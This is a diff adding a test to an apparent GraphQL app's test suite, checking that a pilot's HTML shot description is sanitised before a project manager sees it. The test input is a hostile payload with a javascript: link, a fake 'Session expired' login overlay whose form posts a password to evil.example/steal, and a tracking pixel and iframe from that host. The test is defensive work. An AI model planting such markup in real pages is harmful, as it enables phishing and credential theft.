@@ -154,6 +154,24 @@ describe('the shot list', () => {
     missing(await t.gql(CUSTOM, { projectId: String(rios!.id), title: 'x', description: 'y' }, tokens.pilot));
   });
 
+  it("keeps a pilot's description to formatting and links: no overlay or form reaches the PM (#34 finding 11)", async () => {
+    const overlay =
+      '<p>Fly <b>low</b> <a href="https://vms.example/guide" style="color:red">guide</a> <a href="javascript:alert(1)">x</a></p>' +
+      '<div style="position:fixed;inset:0;z-index:9999;background:white"><h2>Session expired</h2><form action="https://evil.example/steal"><input name="password" type="password"><button>Log in</button></form></div>' +
+      '<img src="https://evil.example/pixel.gif"><iframe src="https://evil.example"></iframe>';
+    const r = await t.gql<{ pilotCustomFolders: { shot: { id: string } } }>(CUSTOM, { projectId: String(project.id), title: 'Overlay', description: overlay }, tokens.pilot);
+    expect(r.errors).toBeUndefined();
+    const clean = '<p>Fly <b>low</b> <a href="https://vms.example/guide">guide</a> <a>x</a></p><h2>Session expired</h2>Log in';
+    const [stored] = await t.app.services.db.select({ description: pilotShots.description }).from(pilotShots).where(eq(pilotShots.id, r.data!.pilotCustomFolders.shot.id));
+    expect(stored!.description).toBe(clean);
+    const seen = (await shotsOf(project.id, { folderTypes: 'Custom' }, tokens.pm)).find((s) => s.id === r.data!.pilotCustomFolders.shot.id) as ShotRow & { description: string };
+    expect(seen.description).toBe(clean);
+    // a row stored before the allowlist existed is answered clean too
+    await t.app.services.db.update(pilotShots).set({ description: overlay }).where(eq(pilotShots.id, r.data!.pilotCustomFolders.shot.id));
+    const again = (await shotsOf(project.id, { folderTypes: 'Custom' }, tokens.pm)).find((s) => s.id === r.data!.pilotCustomFolders.shot.id) as ShotRow & { description: string };
+    expect(again.description).toBe(clean);
+  });
+
   it('reschedules an accepted project within a month, as a UTC date-time', async () => {
     const at = new Date(Date.now() + 3 * 86_400_000);
     at.setUTCHours(15, 0, 0, 0);
